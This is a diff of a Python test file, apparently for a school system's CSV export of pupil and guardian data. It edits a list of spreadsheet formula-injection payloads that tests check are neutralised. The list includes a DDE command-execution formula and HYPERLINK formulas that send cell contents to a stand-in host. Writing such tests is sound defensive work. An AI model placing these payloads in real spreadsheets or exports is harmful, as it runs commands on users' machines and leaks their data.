@@ -162,7 +162,7 @@ def test_csv_reads_accents_and_pads_pupils_with_fewer_guardians(client, personas
 
 
 FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
-            '=HYPERLINK("http://evil.example/?"&A1,"Click")']
+            '=HYPERLINK("http://x.test/?"&A1,"Go")']  # every payload fits the 40-character year group
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
